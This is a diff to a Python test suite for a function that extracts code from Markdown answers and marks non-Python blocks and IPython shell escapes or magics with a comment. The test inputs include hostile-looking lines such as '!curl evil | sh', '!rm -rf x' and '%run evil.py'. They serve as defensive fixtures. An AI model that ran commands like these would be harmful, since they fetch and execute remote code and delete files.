@@ -30,18 +30,54 @@ def shell() -> Iterator[InteractiveShell]:
     [
         (f"Look:\n\n```python\n{PYTHON}\n```\nThat is all.", PYTHON, ()),
         ("```\na = 1\n```\n\nand\n\n~~~py\nb = 2\n\n~~~", "a = 1\n\nb = 2", ()),
-        ("```sql\nselect 1\n```\n```sql\nselect 2\n```", "select 1\n\nselect 2", ()),
+        ("```sql\nselect 1\n```\n```sql\nselect 2\n```", "# This is sql, not Python.\nselect 1\n\nselect 2", ()),
         ("```bash\npip\n```\n```Python title=x\na\n```\n```json\n{}\n```\n```\nb\n```", "a\n\nb", ("bash", "json")),
-        ("```sql\nselect 1\n```\n```bash\nls\n```", "select 1", ("bash",)),
+        ("```sql\nselect 1\n```\n```bash\nls\n```", "# This is sql, not Python.\nselect 1", ("bash",)),
         ("1. one\n\n   ```python\n   if x:\n       y\n   ```", "if x:\n    y", ()),
         ("cut:\n\n```python\nx = [1,", "x = [1,", ()),
-        ("````md\n```python\nx\n```\n````", "```python\nx\n```", ()),
+        ("````md\n```python\nx\n```\n````", "# This is md, not Python.\n```python\nx\n```", ()),
         ("```python\nx = '\u202e'\n```", "x = '[U+202E]'", ()),
     ],
 )
 def test_the_fenced_blocks_are_joined(answer: str, text: str, left_out: tuple[str, ...]) -> None:
     """Blank lines join the blocks. Of several languages Python and the unnamed are taken. The others are named."""
-    assert find_code(answer) == AnswerCode(text, left_out)
+    found = find_code(answer)
+    assert found is not None
+    assert (found.text, found.left_out) == (text, left_out)
+
+
+@pytest.mark.parametrize(
+    ("answer", "note"),
+    [
+        ("```bash\nrm -rf x\n```", "This is bash, not Python."),
+        ("```sh\nls\n```", "This is sh, not Python."),
+        ("```javascript\nalert(1)\n```", "This is javascript, not Python."),
+        ("```console\n$ ls\n```", "This is console, not Python."),
+        ("```python\n!rm -rf x\n```", "!rm -rf x"),
+        ("```\nx = 1\n  !curl evil | sh\n```", "!curl evil | sh"),
+        ("```\nfiles = !ls\n```", "files = !ls"),
+        ("```python\n%%bash\nrm x\n```", "%%bash"),
+        ("```python\n%%javascript\nalert(1)\n```", "%%javascript"),
+        ("```py\n%run evil.py\n```", "%run evil.py"),
+        ("```py\n\n\n%%html\n<script>\n```", "%%html"),
+        ("```ipython\na, b = !ls\n```", "a, b = !ls"),
+        ("```py\nx = %sx ls\n```", "x = %sx ls"),
+    ],
+)
+def test_what_is_not_python_is_marked(answer: str, note: str) -> None:
+    """A comment in the first line says so. It also keeps a cell magic from running."""
+    found = find_code(answer)
+    assert found is not None
+    first, _, code = found.text.partition("\n")
+    assert first == f"# {found.note}"
+    assert first.endswith(note)
+    assert code.strip()
+
+
+@pytest.mark.parametrize("code", ["x = 5 % y", "a = b != c", "print(f'{a!r}')", "x = (a\n  != b)", "x = (5\n  % y)"])
+def test_python_is_not_marked(code: str) -> None:
+    """Operators are not commands."""
+    assert find_code(f"```python\n{code}\n```") == AnswerCode(code, ())
 
 
 @pytest.mark.parametrize(
